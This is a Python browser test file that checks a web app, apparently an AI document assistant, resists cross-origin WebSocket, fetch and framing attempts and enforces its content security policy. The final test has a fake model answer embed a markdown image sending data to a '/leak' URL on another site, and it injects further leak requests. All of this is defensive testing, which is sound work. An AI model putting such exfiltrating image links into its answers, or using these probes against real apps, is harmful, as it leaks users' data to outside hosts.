"""What other sites can do to the program in a real browser, and what its pages may load."""

import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

from tests.browser.actions import ask, settle
from tests.browser.conftest import no_policy_violations
from tests.fakes.openai import OpenAIServer, Text
from tests.fakes.server_thread import serving_in_thread

sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright")

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PAGES = ("", "catalogue", "library", "imports", "retrieval_lab", "document?id=none")
CONNECT = """
(address) => new Promise((done) => {
  const socket = new WebSocket(address);
  socket.onopen = () => done("opened");
  socket.onerror = () => done("refused");
})
"""
FETCH = """
(address) => fetch(address, { mode: "no-cors" }).then(
  (response) => response.type, () => "refused")
"""
FRAME = """
(address) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.src = address;
  frame.onload = () => done(frame.contentDocument === null ? "loaded elsewhere" : "empty");
  document.body.append(frame);
})
"""


class _Site(BaseHTTPRequestHandler):
    """Another site on this machine, which records its requests."""

    def do_GET(self):
        self.server.requested_paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!DOCTYPE html><title>Another site</title><body>Another site</body>")

    def log_message(self, format, *args):
        pass


@pytest.fixture
def other_site() -> Iterator[ThreadingHTTPServer]:
    site = ThreadingHTTPServer(("127.0.0.1", 0), _Site)
    site.requested_paths = []
    site.origin = f"http://localhost:{site.server_address[1]}"
    with serving_in_thread(site):
        yield site


@pytest.fixture
def elsewhere(
    browser: "sync_api.Browser", other_site: ThreadingHTTPServer
) -> Iterator["sync_api.Page"]:
    """An open page of the other site."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(other_site.origin)
    yield page
    context.close()


def test_another_site_cannot_open_a_connection(elsewhere: "sync_api.Page", address: str) -> None:
    stream = f"ws://{urlsplit(address).netloc}/_stcore/stream"
    assert elsewhere.evaluate(CONNECT, stream) == "refused"


def test_another_site_cannot_load_anything(elsewhere: "sync_api.Page", address: str) -> None:
    assert elsewhere.evaluate(FETCH, f"{address}/_stcore/health") == "refused"


def test_another_site_cannot_frame_the_pages(elsewhere: "sync_api.Page", address: str) -> None:
    messages: list[str] = []
    elsewhere.on("console", lambda message: messages.append(message.text))
    elsewhere.evaluate(FRAME, address)
    assert any("frame-ancestors" in text for text in messages)
    assert not any(frame.url.startswith(address) for frame in elsewhere.frames)


@pytest.mark.parametrize("look", ["light", "dark"])
def test_every_page_works_under_its_content_security_policy(
    browser: "sync_api.Browser", address: str, look: str
) -> None:
    context = browser.new_context(color_scheme=look, locale="en-GB")
    with no_policy_violations(context):
        page = context.new_page()
        for path in PAGES:
            policy = page.goto(f"{address}/{path}").headers["content-security-policy"]
            assert "frame-ancestors 'none'" in policy
            settle(page)
            sync_api.expect(page.locator(".stMain")).to_have_text(re.compile(r"\S"))
            assert page.evaluate("document.documentElement.lang") == "en"
        context.close()


def test_an_external_image_in_an_answer_is_not_loaded(
    browser: "sync_api.Browser",
    address_with_model: str,
    model_server: OpenAIServer,
    other_site: ThreadingHTTPServer,
) -> None:
    model_server.will(Text(f"Twenty-five days. ![leave]({other_site.origin}/leak?days=25)"))
    context = browser.new_context(locale="en-GB")
    page = context.new_page()
    messages: list[str] = []
    page.on("console", lambda message: messages.append(message.text))
    page.goto(address_with_model)
    ask(page, "How many days of annual leave do new employees get?")
    page.evaluate(
        "(address) => document.body.append(Object.assign(new Image(), { src: address }))",
        f"{other_site.origin}/leak?by=element",
    )
    page.evaluate(FETCH, f"{other_site.origin}/leak?by=fetch")
    settle(page)
    assert other_site.requested_paths == []
    assert any("Content Security Policy" in text for text in messages)  # as other tests expect it
    context.close()
